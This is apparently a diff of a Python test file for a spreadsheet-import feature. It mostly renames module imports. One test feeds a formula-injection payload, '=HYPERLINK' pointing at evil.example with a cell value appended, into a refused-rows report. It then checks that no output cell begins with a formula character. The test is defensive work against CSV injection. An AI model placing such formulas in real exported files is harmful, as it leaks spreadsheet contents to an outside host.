@@ -12,11 +12,11 @@ from tests.costly import counted
 
 from heliograph.domain.snapshot import HistoryEntry, compile_account
 from heliograph.domain.spreadsheet_cells import original_cell, without_formula
-from heliograph.registrations.imports import missing_setup, report
+from heliograph.registrations.imports import missing_setup, refusal_file
 from heliograph.registrations.imports.columns import Known
-from heliograph.registrations.imports.errors import ImportFileError, RowProblem
 from heliograph.registrations.imports.file_profile import Census
 from heliograph.registrations.imports.file_reader import look, open_rows
+from heliograph.registrations.imports.import_errors import ImportFileError, RowProblem
 
 _TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
 _SCHEMAS = "http://schemas.openxmlformats.org"
@@ -95,7 +95,7 @@ def test_I4_a_report_of_refused_rows_begins_no_formula_and_is_imported_as_it_was
     cells = ['=HYPERLINK("https://evil.example/?"&A1)', *CELLS[1:]]
     path = tmp_path / "refused.csv"
     problem = RowProblem("=name", cells[0], "is not known.", ("-1", "x"))
-    report.write_report(path, [*(f"c{n}" for n in range(len(cells) - 1)), "=head"], [report.RefusedRow(7, (problem,), cells)])
+    refusal_file.write_report(path, [*(f"c{n}" for n in range(len(cells) - 1)), "=head"], [refusal_file.RefusedRow(7, (problem,), cells)])
     with path.open(encoding="utf-8-sig", newline="") as file:
         for line in csv.reader(file):
             assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))]
